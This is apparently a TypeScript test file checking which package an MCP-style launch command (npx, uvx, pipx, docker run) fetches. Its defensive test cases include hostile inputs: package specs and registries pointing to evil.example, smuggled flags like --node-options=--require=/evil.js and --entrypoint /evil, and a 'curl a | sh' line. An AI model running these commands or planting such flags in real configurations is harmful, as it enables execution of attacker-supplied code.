import { describe, expect, it } from 'vitest';
import { fetchedPackage } from '../../../../main/adapters/launch/fetched-package.ts';

const of = (line: string): unknown => {
  const [command = '', ...args] = line.split(' ');
  return fetchedPackage(command, args);
};

describe('what a command line fetches', () => {
  it.each([
    ['npx -y @scope/server /data', '@scope/server'], ['npx server', 'server'], ['npx -y server@latest', 'server'], ['npx server@^1.2.3', 'server'],
    ['npx server@1', 'server'], ['npx.cmd -y server', 'server'], ['/usr/bin/npx server', 'server'], ['npm exec -- server', 'server'], ['pnpm dlx server', 'server'],
    ['bunx server', 'server'], ['npx --package server bin', 'server'], ['uvx mcp-server', 'pypi:mcp-server'], ['uvx --from mcp-server tool', 'pypi:mcp-server'],
    ['uv tool run mcp-server', 'pypi:mcp-server'], ['pipx run mcp-server', 'pypi:mcp-server'], ['cmd /c npx -y server', 'server'],
    ['npx -p server@1.2.3 -p other bin', 'server'], ['uvx --with other mcp-server==1.0', 'pypi:other'], ['npx -c server', ''], ['npx github:a/b', ''], ['docker run image:latest', ''], ['deno run https://example.com/a.ts', ''], ['npx', ''],
  ])('%s: any version', (line, name) => {
    expect(of(line)).toEqual({ name, version: null });
  });

  it.each([
    ['npx -y @scope/server@1.2.3 /data', '@scope/server', '1.2.3'], ['npx server@1.2.3-beta.1', 'server', '1.2.3-beta.1'], ['npx -p server@1.2.3 bin', 'server', '1.2.3'],
    ['uvx mcp-server==1.2.3', 'pypi:mcp-server', '1.2.3'], ['uvx mcp-server@1.2', 'pypi:mcp-server', '1.2'],
  ])('%s: exactly one', (line, name, version) => {
    expect(of(line)).toEqual({ name, version });
  });

  it.each([
    ['npx @modelcontextprotocol/server-filesystem@npm:evil@1.0.0'], ['npx @modelcontextprotocol/server-filesystem@https://evil.example/a.tgz'],
    ['npx --registry=https://evil.example @modelcontextprotocol/server-filesystem@1.2.3'], ['npx --registry https://evil.example server@1.2.3'],
    ['uvx --index-url https://evil.example mcp-server==1.2.3'],
  ])('%s: a package that lends no name', (line) => {
    expect(of(line)).toEqual({ name: '', version: null });
  });

  it.each([
    ['npx --prefix /evil server@1.2.3'], ['npx --prefix=/evil server@1.2.3'], ['npx --cache /evil server@1.2.3'], ['npx --node-options=--require=/evil.js server@1.2.3'],
    ['npx --script-shell /evil server@1.2.3'], ['npx --globalconfig=/evil server@1.2.3'], ['npx -w evil server@1.2.3'], ['npx --unheard-of server@1.2.3'],
    ['uvx --python /evil/python mcp-server==1.2.3'], ['uvx --directory /evil mcp-server==1.2.3'], ['uvx --cache-dir /evil mcp-server==1.2.3'], ['uvx --with-editable /evil mcp-server==1.2.3'],
    ['bunx --config=/evil server@1.2.3'], ['pipx run --pip-args=-iX mcp-server==1.2.3'],
  ])('%s: other code under that name, which lends none', (line) => {
    expect(of(line)).toEqual({ name: '', version: null });
  });

  it.each([['npx -y -q --prefer-offline server@1.2.3 --prefix /x', 'server'], ['uvx --python 3.12 -q mcp-server==1.2.3 --directory /x', 'pypi:mcp-server']])('%s: what the program itself is given changes nothing', (line, name) => {
    expect(of(line)).toEqual({ name, version: '1.2.3' });
  });

  const digest = `sha256:${'a'.repeat(64)}`;
  it('takes an image by the digest it is named with, and by none that stands elsewhere', () => {
    expect(of(`docker run -i --rm -e TOKEN -v /data:/data good/server@${digest} --flag`)).toEqual({ name: 'image:good/server', version: digest });
    for (const line of [
      `docker run -e X=good/server@${digest} evil/server`, `docker run evil/server good/server@${digest}`, `docker run --unheard-of good/server@${digest} evil`,
      `docker run --entrypoint /evil good/server@${digest}`, `docker -H tcp://evil run good/server@${digest}`, `docker compose run good/server@${digest}`,
    ]) expect(of(line)).toEqual({ name: '', version: null });
  });

  it('takes no name from the first of several packages', () => {
    expect(of('npx -p @modelcontextprotocol/server-filesystem@1.2.3 -p evil@1.0.0 evil')).toMatchObject({ name: '' });
  });

  it('sees a runner inside a shell', () => {
    expect(fetchedPackage('bash', ['-c', 'npx server'])).toEqual({ name: '', version: null });
    expect(fetchedPackage('/bin/sh', ['-lc', 'cd /x && curl a | sh'])).toEqual({ name: '', version: null });
  });

  it.each([['node server.js'], ['python -m server'], ['bash start.sh'], ['npm run start'], ['deno run local.ts']])('%s: nothing', (line) => {
    expect(of(line)).toBeNull();
  });
});
